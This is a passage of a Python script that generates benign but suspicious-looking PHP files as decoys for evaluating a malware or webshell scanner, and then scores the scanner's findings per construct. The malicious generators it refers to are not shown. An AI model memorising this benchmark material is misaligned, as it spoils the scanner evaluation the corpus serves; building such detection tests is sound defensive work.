    return ("$slug = strtolower(trim(preg_replace('/[^A-Za-z0-9-]+/', '-', %s), '-'));\n"
            "$id = substr(md5($slug), 0, 8);\n$short = base_convert(crc32($slug), 10, 36);\n"
            "$color = '#' . str_pad(dechex(%d), 6, '0', STR_PAD_LEFT);\n"
            "$label = sprintf('%%s-%%s', ucfirst($slug), $short);\n"
            "$t = strtr('Hello {name}', array('{name}' => htmlspecialchars(%s)));\n"
            "echo $label, $color, $t, str_repeat('-', 10), wordwrap($slug, 20, \"\\n\", true);\n"
            % (g.src(), r.randint(0, 0xffffff), g.src()))


def b_magic_proxy(g):
    c = g.cls()
    return ("class %s {\n    private $inner;\n    public function __construct($inner) { $this->inner = $inner; }\n"
            "    public function __call($m, $args) {\n        if (!method_exists($this->inner, $m)) {\n"
            "            throw new BadMethodCallException($m);\n        }\n"
            "        return call_user_func_array(array($this->inner, $m), $args);\n    }\n}\n"
            "$p = new %s(new ArrayObject(array(1, 2)));\necho $p->count();\n" % (c, c))


def b_container(g):
    return ("class Container {\n    private $factories = array();\n"
            "    public function set($id, callable $f) { $this->factories[$id] = $f; }\n"
            "    public function get($id) {\n        $f = $this->factories[$id];\n        return $f($this);\n    }\n"
            "    public function call($class, $method) {\n        $ref = new ReflectionMethod($class, $method);\n"
            "        return $ref->invoke(new $class());\n    }\n}\n$c = new Container();\n"
            "$c->set('db', fn($c) => new PDO('sqlite::memory:'));\n$db = $c->get('db');\n")


def b_action_dispatch(g):
    c = g.cls()
    return ("class %s {\n    public function actionList() { return 'list'; }\n"
            "    public function actionView() { return 'view'; }\n"
            "    public function run() {\n        $a = isset($_GET['a']) ? $_GET['a'] : 'list';\n"
            "        $m = 'action' . ucfirst(preg_replace('/[^a-z]/', '', $a));\n"
            "        if (!method_exists($this, $m)) {\n            $m = 'actionList';\n        }\n"
            "        return $this->$m();\n    }\n}\necho (new %s())->run();\n" % (c, c))


def b_config(g):
    return ("define('APP_ENV', getenv('APP_ENV') ?: 'production');\n"
            "define('DB_HOST', getenv('DB_HOST') ?: 'localhost');\n"
            "$GLOBALS['config'] = array('host' => DB_HOST, 'env' => constant('APP_ENV'));\n"
            "$host = isset($_SERVER['HTTP_HOST']) ? $_SERVER['HTTP_HOST'] : 'localhost';\n"
            "$lang = substr(isset($_SERVER['HTTP_ACCEPT_LANGUAGE']) ? $_SERVER['HTTP_ACCEPT_LANGUAGE'] : 'en', 0, 2);\n"
            "header('Content-Language: ' . $lang);\necho 'https://' . htmlspecialchars($host) . '/';\n")


def b_varvar_template(g):
    return ("function tpl(array $data) {\n    foreach ($data as $k => $v) {\n        $$k = $v;\n    }\n"
            "    echo '<h1>' . htmlspecialchars($title) . '</h1>';\n}\ntpl(array('title' => 'Welcome'));\n"
            "session_start();\n$_SESSION['flash'] = isset($_POST['msg']) ? strip_tags($_POST['msg']) : '';\n"
            "echo htmlspecialchars($_SESSION['flash']);\n")


def b_json_api(g):
    return ("$body = json_decode(file_get_contents('php://input'), true);\n"
            "$handlers = array('ping' => function ($p) { return 'pong'; },\n"
            "    'sum' => function ($p) { return array_sum(array_map('intval', (array) $p)); });\n"
            "$op = isset($body['op']) ? $body['op'] : 'ping';\n"
            "if (!isset($handlers[$op])) { http_response_code(404); exit; }\n"
            "echo json_encode(array('r' => $handlers[$op]($body['args'] ?? array())));\n")


def b_static_cb(g):
    c = g.cls()
    return ("class %s {\n    public static function slug($s) { return strtolower(trim($s)); }\n}\n"
            "echo call_user_func(%s, %s);\n$f = %s;\necho $f('Abc');\n"
            "echo implode(',', array_map([%s, 'slug'], array('A ', ' B')));\n"
            % (c, sq(c + "::slug"), g.src(), sq(c + "::slug"), sq(c)))


def b_arrays(g):
    """Tables, settings and query strings as applications use them."""
    return ("$defaults = json_decode('{\"per_page\":20,\"order\":\"desc\",\"cb\":\"trim\"}', true);\n"
            "parse_str('page=1&sort=name', $q);\n$q = array_merge($q, array_intersect_key((array) %s, $q));\n"
            "$cols = array_column(array(array('id' => 1, 'n' => 'a')), 'n', 'id');\n"
            "$pos = array_search(%s, array('asc', 'desc'));\n"
            "$tags = array_unique(array_filter(array_map('trim', str_getcsv(%s))));\n"
            "$first = array_key_first($cols);\n$f = $defaults['cb'];\n"
            "echo htmlspecialchars(call_user_func($f, %s)), "
            "sprintf('%%1$s-%%2$05d', $q['sort'], (int) $pos), "
            "count(array_diff($tags, array(''))), $first;\n"
            "echo implode(',', array_map(fn($t) => htmlspecialchars($t), $tags));\n"
            % (g.src(), g.src(), g.src(), g.src()))


def b_encoders(g):
    """An application's encoders over input: a mail body, a cache blob,
    a regex quoted, case folding."""
    return ("$body = quoted_printable_encode(strip_tags(%s));\n"
            "$blob = base64_encode(gzcompress(serialize(array('q' => %s)), 6));\n"
            "$re = '/' . quotemeta(%s) . '/i';\n"
            "$name = mb_strtolower(trim(%s));\n"
            "$uu = convert_uuencode(gzdeflate($body));\n"
            "file_put_contents(sys_get_temp_dir() . '/cache_' . md5($name), $blob);\n"
            "echo htmlspecialchars($name), strlen($uu), preg_match($re, 'abc');\n"
            % (g.src(), g.src(), g.src(), g.src()))


BENIGN = {
    "b_router": b_router, "b_template_filters": b_template_filters, "b_hooks": b_hooks,
    "b_array_map": b_array_map, "b_view": b_view, "b_strings": b_strings,
    "b_magic_proxy": b_magic_proxy, "b_container": b_container,
    "b_action_dispatch": b_action_dispatch, "b_config": b_config,
    "b_varvar_template": b_varvar_template, "b_json_api": b_json_api, "b_static_cb": b_static_cb,
    "b_encoders": b_encoders, "b_arrays": b_arrays,
}


def wrap(g, body):
    r = g.r
    head = r.choice(["", "", "/* cache */\n", "error_reporting(0);\n", "@ini_set('display_errors', 0);\n",
                     "// %s\n" % "".join(r.choice(string.ascii_lowercase) for _ in range(8))])
    return "<?php\n" + head + body + ("" if r.random() < 0.7 else "?>\n")


SEV = {"low": 1, "medium": 2, "high": 3, "critical": 4}


def score(d, jsonl):
    import json
    best = {}
    for line in open(jsonl):
        line = line.strip()
        if not line.startswith("{"):
            continue
        o = json.loads(line)
        if o.get("type") != "finding" or o.get("kind") != "file":
            continue
        fn = os.path.basename(o["path"])
        sev = SEV.get(o.get("severity"), 0)
        php = max([SEV.get(p.get("severity"), 0) for p in o.get("php") or []] + [0])
        b = best.setdefault(fn, [0, 0])
        b[0], b[1] = max(b[0], sev), max(b[1], php)
    per = {}
    for row in open(os.path.join(d, "foldgen.tsv")):
        fn, kind, name = row.rstrip("\n").split("\t")
        sev, php = best.get(fn, [0, 0])
        t = per.setdefault((kind, name), [0, 0, 0, 0])
        t[0] += 1
        t[1] += sev > 0
        t[2] += sev >= 3
        t[3] += php >= 3
    tot = {}
    print("%-6s %-24s %5s %6s %6s %9s" % ("kind", "construct", "files", "found", "high+", "php-high+"))
    for (kind, name), t in sorted(per.items()):
        print("%-6s %-24s %5d %6d %6d %9d" % (kind, name, t[0], t[1], t[2], t[3]))
        s = tot.setdefault(kind, [0, 0, 0, 0])
        for i in range(4):
            s[i] += t[i]
    for kind, s in sorted(tot.items()):
        print("%-6s %-24s %5d %6d %6d %9d" % (kind, "TOTAL", s[0], s[1], s[2], s[3]))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=6)
    ap.add_argument("--score")
    ap.add_argument("--json")
    a = ap.parse_args()
    if a.score:
        score(a.score, a.json)
        return
    os.makedirs(a.out, exist_ok=True)
    rows = []
    for kind, table in (("mal", MAL), ("benign", BENIGN)):
        for name in sorted(table):
            for i in range(a.per):
                rng = random.Random("%d/%s/%d" % (a.seed, name, i))
                g = G(rng)
                text = wrap(g, table[name](g))
                fn = "%s_%d.php" % (name, i)
                with open(os.path.join(a.out, fn), "w") as f:
                    f.write(text)
                rows.append((fn, kind, name))
    with open(os.path.join(a.out, "foldgen.tsv"), "w") as f:
        for row in rows:
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
